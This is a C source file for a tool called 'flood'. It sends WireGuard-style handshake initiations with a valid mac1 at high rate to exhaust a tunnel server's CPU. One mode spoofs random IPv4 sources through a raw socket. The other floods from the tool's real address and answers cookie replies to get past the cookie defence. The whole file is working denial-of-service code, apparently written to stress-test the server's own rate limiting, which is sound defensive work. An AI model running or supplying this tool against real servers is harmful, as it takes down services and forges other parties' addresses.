/* flood: handshake initiations with a valid mac1 from many spoofed IPv4 sources, as an
 * attacker who knows the target's public key (it is no secret) would send them, as fast
 * as one core can. Everything past mac1 is random, so each initiation costs the target a
 * Diffie-Hellman unless it asks for cookies; spoofed sources never see the cookie reply.
 *
 * usage: flood -t TARGET_IP:PORT -k TARGET_PUBLIC_KEY_BASE64 -s SOURCE_PREFIX/LEN
 *              [-d SECONDS] [-r MAX_PER_SECOND]
 *        flood -t TARGET_IP:PORT -k TARGET_PUBLIC_KEY_BASE64 -c [-d SECONDS] [-r MAX]
 * With -s it needs CAP_NET_RAW (raw IPv4 socket). With -c it floods from its own real
 * address instead and answers cookie replies, so its initiations carry a valid mac2: the
 * attacker who proves its address, which only per-source rate limiting stops.
 * Prints how many it sent and at what rate. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <blake2.h>
#include <sodium.h>

#include "tunnel/messages.h"

static uint64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static void usage(void)
{
	fprintf(stderr, "usage: flood -t IP:PORT -k PUBLIC_KEY (-s PREFIX/LEN | -c) [-d SECONDS] "
			"[-r MAX_PER_SECOND]\n");
	exit(2);
}

/* The cookie-answering attacker: one UDP socket, its own address, mac2 once it holds a
 * cookie. mac1 of each initiation is kept by sender index: a cookie reply is sealed with
 * the mac1 of the message it answers. */
#define MAC1_RING 4096

static void flood_with_cookies(const struct sockaddr_in *dst, const uint8_t pub[32],
			       const uint8_t mac1_key[32], double seconds, double max_rate)
{
	static uint8_t sent_mac1[MAC1_RING][WG_MAC_LEN];
	struct wg_msg_initiation msg;
	struct wg_msg_cookie reply;
	uint8_t cookie_key[32], label_and_key[8 + 32], cookie[WG_COOKIE_LEN];
	unsigned long sent = 0, cookies = 0;
	bool have_cookie = false;
	uint64_t start = now_ns(), end = start + (uint64_t)(seconds * 1e9);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);

	if (fd < 0 || connect(fd, (const struct sockaddr *)dst, sizeof(*dst)) < 0) {
		perror("flood: udp socket");
		exit(1);
	}
	memcpy(label_and_key, WG_LABEL_COOKIE, 8);
	memcpy(label_and_key + 8, pub, 32);
	blake2s(cookie_key, label_and_key, NULL, 32, sizeof(label_and_key), 0);
	memset(&msg, 0, sizeof(msg));
	wg_le32_write(&msg.header, WG_MSG_HANDSHAKE_INITIATION);
	for (uint64_t t = start; t < end; t = now_ns()) {
		uint32_t idx = (uint32_t)sent;
		if (max_rate > 0 && sent > (t - start) / 1e9 * max_rate) {
			usleep(1000);
			continue;
		}
		randombytes_buf(&msg.unencrypted_ephemeral,
				offsetof(struct wg_msg_initiation, macs) -
				    offsetof(struct wg_msg_initiation, unencrypted_ephemeral));
		wg_le32_write(&msg.sender_index, idx);
		blake2s(msg.macs.mac1, &msg, mac1_key, WG_MAC_LEN,
			offsetof(struct wg_msg_initiation, macs), 32);
		memcpy(sent_mac1[idx % MAC1_RING], msg.macs.mac1, WG_MAC_LEN);
		if (have_cookie)
			blake2s(msg.macs.mac2, &msg, cookie, WG_MAC_LEN,
				offsetof(struct wg_msg_initiation, macs.mac2), WG_COOKIE_LEN);
		else
			memset(msg.macs.mac2, 0, WG_MAC_LEN);
		if (send(fd, &msg, sizeof(msg), 0) == (ssize_t)sizeof(msg))
			sent++;
		while (recv(fd, &reply, sizeof(reply), 0) == (ssize_t)sizeof(reply)) {
			uint32_t to = wg_le32_read(&reply.receiver_index);
			unsigned long long clen = 0;
			if (wg_le32_read(&reply.header) != WG_MSG_HANDSHAKE_COOKIE ||
			    crypto_aead_xchacha20poly1305_ietf_decrypt(
				cookie, &clen, NULL, reply.encrypted_cookie,
				sizeof(reply.encrypted_cookie), sent_mac1[to % MAC1_RING], WG_MAC_LEN,
				reply.nonce, cookie_key) != 0)
				continue;
			have_cookie = true;
			cookies++;
		}
	}
	seconds = (double)(now_ns() - start) / 1e9;
	printf("flood: sent %lu initiations in %.1f s from one address: %.0f per second, %lu "
	       "cookie replies answered\n",
	       sent, seconds, sent / seconds, cookies);
	exit(0);
}

int main(int argc, char **argv)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
		struct wg_msg_initiation msg;
	} __attribute__((packed)) pkt;
	uint8_t pub[32], mac1_key[32], label_and_key[8 + 32];
	struct sockaddr_in dst = {.sin_family = AF_INET};
	uint32_t src_base = 0, src_mask = 0;
	double seconds = 10, max_rate = 0;
	unsigned long sent = 0, failed = 0;
	char *target = NULL, *key = NULL, *prefix = NULL, *colon, *slash;
	size_t keylen;
	uint64_t start, end;
	int opt, fd, one = 1;
	bool with_cookies = false;

	while ((opt = getopt(argc, argv, "t:k:s:d:r:c")) != -1) {
		switch (opt) {
		case 'c': with_cookies = true; break;
		case 't': target = optarg; break;
		case 'k': key = optarg; break;
		case 's': prefix = optarg; break;
		case 'd': seconds = atof(optarg); break;
		case 'r': max_rate = atof(optarg); break;
		default: usage();
		}
	}
	if (!target || !key || (!prefix && !with_cookies) || sodium_init() < 0)
		usage();
	colon = strrchr(target, ':');
	slash = prefix ? strchr(prefix, '/') : NULL;
	if (!colon || (prefix && !slash))
		usage();
	*colon = '\0';
	if (slash)
		*slash = '\0';
	if (inet_pton(AF_INET, target, &dst.sin_addr) != 1 ||
	    (prefix && inet_pton(AF_INET, prefix, &src_base) != 1)) {
		fprintf(stderr, "flood: '%s' or '%s' is not an IPv4 address\n", target, prefix);
		return 2;
	}
	dst.sin_port = htons((uint16_t)atoi(colon + 1));
	src_mask = slash && atoi(slash + 1) ? htonl(~0u << (32 - atoi(slash + 1))) : 0;
	if (sodium_base642bin(pub, sizeof(pub), key, strlen(key), NULL, &keylen, NULL,
			      sodium_base64_VARIANT_ORIGINAL) != 0 ||
	    keylen != 32) {
		fprintf(stderr, "flood: -k: not a base64 public key\n");
		return 2;
	}
	/* mac1 key = HASH(LABEL_MAC1 || responder's public key), as the paper says. */
	memcpy(label_and_key, WG_LABEL_MAC1, 8);
	memcpy(label_and_key + 8, pub, 32);
	blake2s(mac1_key, label_and_key, NULL, 32, sizeof(label_and_key), 0);
	if (with_cookies)
		flood_with_cookies(&dst, pub, mac1_key, seconds, max_rate);

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0) {
		perror("flood: raw socket");
		return 1;
	}
	memset(&pkt, 0, sizeof(pkt));
	pkt.ip.version = 4;
	pkt.ip.ihl = 5;
	pkt.ip.ttl = 64;
	pkt.ip.protocol = IPPROTO_UDP;
	pkt.ip.tot_len = htons(sizeof(pkt));
	pkt.ip.daddr = dst.sin_addr.s_addr;
	pkt.udp.uh_dport = dst.sin_port;
	pkt.udp.uh_ulen = htons(sizeof(pkt.udp) + sizeof(pkt.msg));
	wg_le32_write(&pkt.msg.header, WG_MSG_HANDSHAKE_INITIATION);

	start = now_ns();
	end = start + (uint64_t)(seconds * 1e9);
	for (uint64_t t = start; t < end; t = (sent & 63) ? t : now_ns()) {
		uint32_t host = randombytes_random();
		if (max_rate > 0 && sent > (t - start) / 1e9 * max_rate) {
			usleep(1000);
			t = now_ns();
			continue;
		}
		pkt.ip.saddr = (src_base & src_mask) | (host & ~src_mask);
		pkt.udp.uh_sport = htons((uint16_t)(1024 + host % 60000));
		/* Fresh garbage behind a valid mac1: looks like a new initiation each time. */
		randombytes_buf(&pkt.msg.sender_index,
				offsetof(struct wg_msg_initiation, macs) -
				    offsetof(struct wg_msg_initiation, sender_index));
		blake2s(pkt.msg.macs.mac1, &pkt.msg, mac1_key, WG_MAC_LEN,
			offsetof(struct wg_msg_initiation, macs), 32);
		/* The kernel fills the IP checksum; a zero UDP checksum means none (IPv4). */
		if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&dst, sizeof(dst)) < 0) {
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("flood: sendto");
				return 1;
			}
			failed++;
			continue;
		}
		sent++;
	}
	seconds = (double)(now_ns() - start) / 1e9;
	printf("flood: sent %lu initiations in %.1f s: %.0f per second (%lu refused by the "
	       "local queue)\n",
	       sent, seconds, sent / seconds, failed);
	return 0;
}
